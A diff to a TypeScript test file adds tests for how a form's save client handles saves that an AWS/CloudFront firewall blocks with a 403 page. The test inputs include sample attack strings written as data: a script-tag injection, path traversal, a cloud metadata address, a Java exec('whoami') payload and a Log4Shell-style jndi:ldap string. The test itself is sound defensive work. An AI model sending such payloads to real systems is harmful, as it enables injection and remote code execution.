@@ -55,7 +55,7 @@ const callsAnsweredWith = (status: number, body: unknown) => {
       accessToken: async () => 'token',
       fetch: async (path, init = {}) => {
         requests.push({ path: String(path), body: JSON.parse(String(init.body)) })
-        return new Response(JSON.stringify(body), { status })
+        return new Response(typeof body === 'string' ? body : JSON.stringify(body), { status })
       },
     }),
   )
@@ -125,6 +125,45 @@ test('a save that finds no room among those that may outlive the page goes as an
   expect(keepalives).toEqual([true, true, true, false])
   await calls.save(large, 'user')
   expect(keepalives.at(-1)).toBe(true)
+})
+
+/** What CloudFront answers for a firewall that blocks. */
+const blocked =
+  '<!DOCTYPE HTML><HTML><HEAD><TITLE>ERROR: The request could not be satisfied</TITLE></HEAD></HTML>'
+
+/** Of https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html, as an answer might quote them. */
+test.each([
+  'My son sent me <script>alert("hello")</script>',
+  'see ../../notes',
+  'http://192.0.2.1/report',
+  '169.254.169.254',
+  '(java.lang.Runtime).getRuntime().exec("whoami")',
+  'I got a mail with $' + '{jndi:ldap://example.com/} in it',
+])(
+  'a save that the firewall refuses sets aside what looks like code and nothing else: %s [DEP-7]',
+  async (words) => {
+    const { calls } = callsAnsweredWith(403, blocked)
+    const answers = {
+      city: 'Dallas',
+      familyHistory: words,
+      medications: ['Aspirin 81 mg, 1 a day', words],
+    }
+    expect(await calls.save({ ...save, answers }, 'user')).toMatchObject({
+      kind: 'refused',
+      fields: ['medications', 'familyHistory'],
+      isBlocked: true,
+    })
+  },
+)
+
+test('a save is sent again when the firewall cannot have meant the answers, or the API itself says no [DEP-7]', async () => {
+  const code = { city: '<b>' }
+  const ofFirewall = callsAnsweredWith(403, blocked)
+  expect(await ofFirewall.calls.save(save, 'user')).toMatchObject({ kind: 'failed' })
+  const ofGateway = callsAnsweredWith(403, { message: 'Forbidden' })
+  expect(await ofGateway.calls.save({ ...save, answers: code }, 'user')).toMatchObject({ kind: 'failed' })
+  const ofEdge = callsAnsweredWith(502, blocked)
+  expect(await ofEdge.calls.save({ ...save, answers: code }, 'user')).toMatchObject({ kind: 'failed' })
 })
 
 test('the copy that came out of a save comes back with it', async () => {
